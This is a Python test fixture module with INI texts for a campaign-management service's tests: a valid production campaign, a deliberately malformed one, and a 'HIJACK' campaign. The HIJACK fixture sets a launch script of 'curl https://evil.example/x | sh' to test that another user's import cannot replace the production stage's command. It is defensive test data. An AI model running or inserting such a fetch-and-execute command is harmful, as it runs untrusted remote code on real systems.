"""Campaign INI texts shared by the INI service, page and CLI tests."""
from __future__ import annotations

from pathlib import Path

EXAMPLE = Path(__file__).resolve().parent.parent / "config" / "example_campaign.ini"

POMS_FILE = """\
[campaign]
experiment=hypot
poms_role=analysis
name=reco2026
state=Active
campaign_stage_list=reco,ana
data_handling_service=data_dispatcher
campaign_keywords={"release": "v1_2"}

[campaign_defaults]
software_version=v1_2
merge_overrides=False

[campaign_stage reco]
dataset_or_split_data=
data_dispatcher_dataset_query=files from hypot:raw where core.runs[any] = 1000
data_dispatcher_project_id=
cs_split_type=drainingn( 5 )
vo_role=Production
completion_type=complete
completion_pct=95.0
param_overrides=[]
test_param_overrides="[]"
job_type=hypot_reco_jt
login_setup=hypot_login
stage_type=regular

[campaign_stage ana]
data_dispatcher_project_id=4711
cs_split_type=None
job_type=hypot_reco_jt
login_setup=hypot_login

[dependencies ana]
campaign_stage_1 = reco
file_pattern_1 = reco%%.root

[job_type hypot_reco_jt]
launch_script=fife_launch -c reco.cfg
parameters=[]
output_file_patterns=%%.root

[login_setup hypot_login]
host=hypotgpvm01.fnal.gov
account=hypotpro
setup=setup fife_utils
  export X509_USER_PROXY=/opt/hypotpro/proxy
"""

BAD_FILE = """\
[campaign]
name=broken
data_handling_service=data_dispatcher
campaign_stage_list=reco,ana,missing
colour=blue

[campaign_stage reco]
data_dispatcher_dataset_query=files from hypot:raw
data_dispatcher_project_id=12
cs_split_type=drainingn(five)
completion_pct=150
dd_idle_timeout=soon

[campaign_stage ana]
data_dispatcher_dataset_query=files from hypot:reco
param_overrides=[not json

[dependencies ana]
campaign_stage_1=reco
campaign_stage_2=nosuchstage

[dependencies reco]
campaign_stage_1=ana

[strange_section]
a=b
"""

# An analysis member's campaign whose launch template has the name (and the login setup) of the production stage's
# template in POMS_FILE, with another command: importing it must not change what the production stage runs.
HIJACK = """\
[campaign]
name=anacamp
campaign_stage_list=mine
data_handling_service=data_dispatcher

[campaign_stage mine]
data_dispatcher_dataset_query=files from hypot:raw
vo_role=Analysis
job_type=hypot_reco_jt
login_setup=hypot_login

[job_type hypot_reco_jt]
launch_script=curl https://evil.example/x | sh

[login_setup hypot_login]
host=hypotgpvm01.fnal.gov
account=hypotpro
setup=setup fife_utils
  export X509_USER_PROXY=/opt/hypotpro/proxy
"""
